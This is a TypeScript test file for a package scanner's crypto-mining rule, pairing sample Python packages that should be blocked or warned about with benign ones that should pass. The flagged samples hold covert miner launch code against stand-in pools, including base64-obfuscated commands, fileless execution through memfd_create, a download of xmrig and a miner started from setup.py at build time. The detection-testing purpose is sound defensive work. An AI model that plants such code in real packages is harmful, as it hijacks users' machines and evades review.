import { cryptoMining } from '../../src/rules/crypto-mining.js';
import { base64 } from '../python/read.js';
import { sdist } from '../support/sdist.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const START =
  'import subprocess\nsubprocess.Popen(["./worker", "--donate-level", "1", "-o", "pool.example.invalid:3333", "-u", "nobody"])\n';

releaseTest(cryptoMining, {
  flags: [
    { name: 'by its flags', given: updated(START), level: 'block', says: '--donate-level' },
    { name: 'by its flags, when called', given: updated(inFunction(START)), level: 'block' },
    {
      name: 'late in a long command',
      given: updated(
        'import os\nos.system("cd /tmp && chmod 700 ./m && nohup ./m --threads 2 --quiet --background --url stratum+tcp://pool.example.invalid:3333 -u nobody >/dev/null 2>&1 &")\n',
      ),
      level: 'block',
      says: 'stratum+tcp://',
    },
    {
      name: 'by its name, through getattr',
      given: updated('getattr(__import__("os"), "sys" + "tem")("/tmp/" + "xm" + "rig -o pool.example.invalid:3333")\n'),
      level: 'block',
    },
    {
      name: 'a decoded command, in a class and a thread',
      given: updated(
        `import base64, subprocess, threading\nclass W:\n    CMD = base64.b64decode("${base64('./m -a rx/0 -o pool.example.invalid:3333')}").decode()\n    def run(self):\n        subprocess.run(self.CMD, shell=True)\nthreading.Thread(target=W().run).start()\n`,
      ),
      level: 'block',
      says: 'rx/0',
    },
    {
      name: 'a program in memory, by the path of its descriptor',
      given: updated(
        'import os\nfd = os.memfd_create("x", 0)\nos.write(fd, b"..")\nos.execv(f"/proc/self/fd/{fd}", ["x"])\n',
      ),
      level: 'block',
      says: '/proc/self/fd/',
    },
    {
      name: 'a program in memory, by its descriptor',
      given: updated('import os\nfd = os.memfd_create("x", 0)\nos.execve(fd, ["kworker"], {})\n'),
      level: 'block',
    },
    {
      name: 'a program in memory, with Popen and a helper',
      given: updated(
        'import os, subprocess\ndef start(path):\n    subprocess.Popen([path])\nstart(f"/proc/{os.getpid()}/fd/{os.memfd_create(\'x\')}")\n',
      ),
      level: 'block',
    },
    {
      name: 'a miner in Python',
      given: updated(
        'import socket\ns = socket.socket()\ns.connect(("pool.example.invalid", 3333))\ns.sendall(b\'{"id": 1, "method": "mining.subscribe", "params": []}\')\n',
      ),
      level: 'block',
      says: 'mining.subscribe',
    },
    {
      name: 'a miner that is fetched',
      given: updated(
        'import urllib.request\nurllib.request.urlretrieve("https://a.example.invalid/xmrig/releases/download/v6.0/xmrig-6.0-linux.tar.gz", "/tmp/x")\n',
      ),
      level: 'block',
    },
    {
      name: 'a pool, on import',
      given: updated('import requests\nrequests.get("https://api.nanopool.org/v1/xmr/user/nobody")\n'),
      level: 'warn',
      says: 'nanopool',
    },
    {
      name: 'a pool in a constant, on import',
      given: updated(
        'import demo.work as w\nw.start({"url": "stratum+tcp://pool.example.invalid:3333", "user": "nobody"})\n',
      ),
      level: 'warn',
      says: 'a mining pool',
    },
    {
      name: 'while it is built',
      given: { base: sdist(), head: sdist({ 'setup.py': `from setuptools import setup\n${START}setup()\n` }) },
      level: 'block',
    },
    { name: 'a first release', given: { head: init(START) }, level: 'block' },
    { name: 'a first release, when called', given: { head: init(inFunction(START)) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'a miner that is ended',
      given: updated('import subprocess\ndef clean():\n    subprocess.run(["pkill", "-9", "xmrig"])\n'),
    },
    {
      name: 'a miner that is looked for',
      given: updated('import os\ndef infected():\n    return os.popen("pgrep xmrig").read() != ""\n'),
    },
    {
      name: 'names of miners in a list',
      given: updated(
        'import subprocess\nBAD = ["xmrig", "minerd", "ethminer"]\ndef scan():\n    return subprocess.run(["ps", "aux"], capture_output=True)\n',
      ),
    },
    {
      name: 'a pool’s figures, when called',
      given: updated(
        'import requests\ndef hashrate(user):\n    return requests.get(f"https://api.nanopool.org/v1/eth/user/{user}").json()\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a choice of algorithm',
      given: updated(
        'import subprocess\ndef train():\n    subprocess.run(["train.sh", "--algo", "ppo", "-o", "out"])\n',
      ),
    },
    {
      name: 'a buffer in memory',
      given: updated(
        'import os, subprocess\ndef share(data):\n    fd = os.memfd_create("buffer")\n    os.write(fd, data)\n    subprocess.run(["cat"], stdin=fd)\n',
      ),
    },
    {
      name: 'a descriptor handed to a program',
      given: updated('import subprocess\ndef diff(a, fd):\n    subprocess.run(["diff", a, f"/proc/self/fd/{fd}"])\n'),
    },
    {
      name: 'data mining',
      given: updated(
        'import subprocess\ndef mine(logs):\n    subprocess.run(["processmining", "--miner", "alpha", logs])\n',
      ),
    },
    { name: 'what the base did too', given: { base: init(START), head: init(`V = 2\n${START}`) } },
  ],
});
